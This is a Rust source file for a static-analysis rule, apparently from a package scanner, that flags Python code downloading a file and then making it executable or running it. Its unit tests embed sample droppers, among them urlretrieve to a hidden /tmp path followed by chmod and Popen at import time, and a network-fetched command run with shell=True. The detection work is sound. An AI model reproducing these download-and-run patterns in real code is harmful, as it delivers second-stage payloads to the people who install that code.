//! download-execute: a file is downloaded and then made executable or run (`urlretrieve` +
//! `chmod` + `subprocess`/`os.startfile`).

use crate::finding::RuleInfo;
use crate::finding::{Confidence, Severity};
use crate::inspect::facts::{Arg, Call, Facts, NET};
use crate::inspect::patterns::method_is;
use crate::inspect::{Emitter, FileCx};

pub static INFO: RuleInfo = RuleInfo {
    id: "download-execute",
    severity: Severity::High,
    summary: "A downloaded file is made executable or run",
    help: "Reports code that downloads a file (urlretrieve, requests/urlopen content written to \
           disk, wget.download) and, in the same context shortly after, marks that same file \
           executable (os.chmod, chmod +x) or runs it (subprocess, os.system, os.startfile), or \
           runs a command built from fetched data. The run or chmod must refer to the written \
           path (same variable or literal): a build script that downloads a zip and then runs \
           `ninja` is not a dropper. Dropping and running a binary fetched at run time is how \
           second-stage payloads arrive. Critical at install or import time, high in a function \
           body; when the written path cannot be told statically the finding is medium at \
           most. Installers of tools (e.g. downloading a browser driver) look the same and \
           deserve review: check the source and whether a hash is verified.",
};

/// Keyword arguments that say where or how a process runs, not what it runs.
const NOT_THE_COMMAND: &[&str] = &["cwd", "env", "stdin", "stdout", "stderr", "timeout"];

/// A download and what is known about the file it writes.
struct Drop<'a> {
    call: &'a Call,
    /// Variable names and literals of the destination path; empty when unknown.
    atoms: Vec<String>,
}

fn arg_atoms(a: &Arg) -> Vec<String> {
    let mut v = a.atoms.clone();
    if let Some(t) = a.text() {
        v.push(t);
    }
    v
}

/// The downloads of a file, each with its destination when it can be told.
fn drops(facts: &Facts) -> Vec<Drop<'_>> {
    let mut out = Vec::new();
    for (i, c) in facts.calls.iter().enumerate() {
        let atoms = match c.name.as_str() {
            "urllib.request.urlretrieve" | "urllib.urlretrieve" => c
                .args
                .get(1)
                .or_else(|| c.kw("filename"))
                .map(arg_atoms)
                .unwrap_or_default(),
            "wget.download" => c
                .args
                .get(1)
                .or_else(|| c.kw("out"))
                .map(arg_atoms)
                .unwrap_or_default(),
            _ if (method_is(&c.name, "write") || method_is(&c.name, "write_bytes"))
                && c.arg_taint() & NET != 0 =>
            {
                // The file written to: the receiver (`f`, `Path(p)`, `open(p, 'wb')`) and the
                // path of the nearest earlier `open(path, 'w...')` nearby.
                let mut atoms = c.recv_atoms.clone();
                let opened = facts.calls[..=i]
                    .iter()
                    .rev()
                    .filter(|o| o.ctx == c.ctx && c.line.saturating_sub(o.line) <= 15)
                    .find(|o| {
                        o.name == "open"
                            && o.args
                                .get(1)
                                .or_else(|| o.kw("mode"))
                                .and_then(Arg::text)
                                .is_some_and(|m| m.contains(['w', 'a', 'x']))
                    })
                    .and_then(|o| o.args.first().or_else(|| o.kw("file")))
                    .map(arg_atoms)
                    .unwrap_or_default();
                atoms.extend(opened);
                atoms
            }
            _ if c.is_network() && c.kw("stream").is_some() => Vec::new(),
            _ => continue,
        };
        out.push(Drop { call: c, atoms });
    }
    out
}

/// Whether call `c` refers to the file `d` wrote (or to fetched data).
fn linked(c: &Call, d: &Drop<'_>) -> bool {
    let args: Vec<&Arg> = c
        .args
        .iter()
        .chain(
            c.kwargs
                .iter()
                .filter(|(k, _)| !NOT_THE_COMMAND.contains(&k.as_str()))
                .map(|(_, a)| a),
        )
        .collect();
    if args.iter().any(|a| a.taint & NET != 0) {
        return true;
    }
    let texts: Vec<String> = args.iter().filter_map(|a| a.text()).collect();
    d.atoms.iter().any(|want| {
        args.iter().any(|a| a.atoms.iter().any(|have| have == want))
            // A literal path inside a command line (`chmod +x /tmp/.a`); identifiers such as
            // `data` or `path` only match whole atoms.
            || want.len() >= 4
                && want.contains(['/', '\\', '.'])
                && texts.iter().any(|t| t.contains(want.as_str()))
    })
}

pub fn check(cx: &FileCx<'_>, out: &mut Emitter<'_>) {
    let Some(facts) = cx.facts else { return };
    let downloads = drops(facts);
    if downloads.is_empty() {
        return;
    }
    for c in &facts.calls {
        let runs = c.is_process() || c.name == "os.startfile";
        let chmod =
            c.name == "os.chmod" || c.name == "os.fchmod" || c.all_text().contains("chmod +x");
        if !(runs || chmod) {
            continue;
        }
        let near = |d: &&Drop<'_>| {
            d.call.ctx == c.ctx && d.call.line <= c.line && c.line - d.call.line <= 40
        };
        let how = if chmod { "made executable" } else { "run" };
        if let Some(d) = downloads.iter().filter(near).find(|d| linked(c, d)) {
            out.emit(
                &INFO,
                c.ctx.pick(Severity::Critical, Severity::High),
                Confidence::Medium,
                c.line,
                format!(
                    "file downloaded on line {} is {how} with `{}`",
                    d.call.line, c.name
                ),
                c.note.as_deref(),
            );
        } else if let Some(d) = downloads.iter().filter(near).find(|d| d.atoms.is_empty()) {
            // Where the download went cannot be told statically: worth a look, not a verdict.
            out.emit(
                &INFO,
                c.ctx.pick(Severity::Medium, Severity::Low),
                Confidence::Low,
                c.line,
                format!(
                    "file downloaded on line {} (destination unknown) may be {how} with `{}`",
                    d.call.line, c.name
                ),
                c.note.as_deref(),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::finding::Severity;
    use crate::inspect::rules::testutil::worst;

    #[test]
    fn urlretrieve_chmod_run() {
        let src = "import os, subprocess, urllib.request\np = '/tmp/.cache/agent'\nurllib.request.urlretrieve('http://192.0.2.3/agent', p)\nos.chmod(p, 0o755)\nsubprocess.Popen([p])\n";
        assert_eq!(
            worst("download-execute", "pkg/__init__.py", src),
            Some(Severity::Critical)
        );
    }

    #[test]
    fn download_without_run_or_run_without_download() {
        let a = "import urllib.request\ndef get():\n    urllib.request.urlretrieve('https://example.invalid/data.csv', 'data.csv')\n";
        assert_eq!(worst("download-execute", "pkg/a.py", a), None);
        let b = "import subprocess\ndef f():\n    subprocess.run(['git', 'pull'])\n";
        assert_eq!(worst("download-execute", "pkg/a.py", b), None);
    }

    #[test]
    fn numpy_meson_build_script_download_then_ninja_is_not_download_execute() {
        // vendored-meson/meson/manual tests/4 standalone binaries/build_windows_package.py,
        // at a module path so the test directory does not hide the logic under test.
        let src = "import os, urllib.request, shutil, subprocess\nsdl_url = 'http://example.invalid/SDL2-devel-2.0.3-VC.zip'\nsdl_filename = 'SDL2-devel-2.0.3-VC.zip'\nif not os.path.exists(sdl_filename):\n    response = urllib.request.urlopen(sdl_url, timeout=600.0)\n    data = response.read()\n    open(sdl_filename, 'wb').write(data)\nshutil.unpack_archive(sdl_filename, 'build')\nsubprocess.check_call(['python3', r'..\\..\\meson.py', 'build', '--backend=ninja'])\nsubprocess.check_call(['ninja'], cwd='build')\nsubprocess.check_call([r'\\Program Files\\Inno Setup 5\\ISCC.exe', 'myapp.iss'], cwd='build')\n";
        assert_eq!(
            worst("download-execute", "pkg/build_windows_package.py", src),
            None
        );
        assert_eq!(
            worst(
                "download-execute",
                "numpy-2.1.3/vendored-meson/meson/manual tests/4 standalone binaries/build_windows_package.py",
                src
            ),
            None
        );
    }

    #[test]
    fn written_response_then_run_is_critical() {
        let src = "import os, subprocess, requests, tempfile\np = os.path.join(tempfile.gettempdir(), 'svc.exe')\nr = requests.get('http://192.0.2.3/svc.exe')\nwith open(p, 'wb') as f:\n    f.write(r.content)\nsubprocess.Popen([p], shell=False)\n";
        assert_eq!(
            worst("download-execute", "pkg/__init__.py", src),
            Some(Severity::Critical)
        );
        // Same literal path, no shared variable.
        let lit = "import os, urllib.request\nurllib.request.urlretrieve('http://192.0.2.3/a', '/tmp/.a')\nos.system('chmod +x /tmp/.a && /tmp/.a')\n";
        assert_eq!(
            worst("download-execute", "pkg/__init__.py", lit),
            Some(Severity::Critical)
        );
        // Running a command fetched from the network.
        let cmd = "import subprocess, urllib.request\ndef f():\n    c = urllib.request.urlopen('http://192.0.2.3/c').read().decode()\n    open('log.txt', 'w').write(c)\n    subprocess.run(c, shell=True)\n";
        assert_eq!(
            worst("download-execute", "pkg/a.py", cmd),
            Some(Severity::High)
        );
    }

    #[test]
    fn unknown_destination_is_at_most_medium() {
        let src = "import subprocess, pathlib, requests\nr = requests.get('http://192.0.2.3/x')\npathlib.Path(make_path()).write_bytes(r.content)\nsubprocess.Popen(['ninja'])\n";
        assert_eq!(
            worst("download-execute", "pkg/__init__.py", src),
            Some(Severity::Medium)
        );
    }

    #[test]
    fn temporary_file_written_then_run_by_name_is_linked() {
        // psutil's scripts/internal/install_pip.py shape: download into a NamedTemporaryFile
        // and run `python f.name`.
        let src = "import os, sys, tempfile\nfrom urllib.request import urlopen\ndef main():\n    with tempfile.NamedTemporaryFile(suffix='.py') as f:\n        data = urlopen('https://example.invalid/get.py').read()\n        f.write(data)\n        f.flush()\n        code = os.system('%s %s --user' % (sys.executable, f.name))\n";
        assert_eq!(
            worst("download-execute", "pkg/a.py", src),
            Some(Severity::High)
        );
        assert_eq!(
            worst(
                "download-execute",
                "pkg-1.0/scripts/internal/install_pip.py",
                src
            ),
            Some(Severity::Low)
        );
    }
}
